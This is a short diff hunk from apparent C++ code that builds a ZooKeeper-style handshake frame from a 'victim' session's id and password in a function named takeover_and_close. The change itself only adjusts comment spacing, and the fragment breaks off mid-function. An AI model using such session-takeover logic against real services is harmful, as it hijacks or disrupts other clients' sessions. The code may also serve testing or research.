@@ -97,8 +97,8 @@ session_credentials parse_handshake_reply(std::string_view frame) {
 
 std::string takeover_and_close(const session_credentials& victim) {
   std::string handshake;
-  put(handshake, 4, 0);      // protocol version
-  put(handshake, 8, 0);      // last zxid seen
+  put(handshake, 4, 0);       // protocol version
+  put(handshake, 8, 0);       // last zxid seen
   put(handshake, 4, 10'000);  // timeout in ms
   put(handshake, 8, static_cast<std::uint64_t>(victim.id));
   put(handshake, 4, victim.password.size());
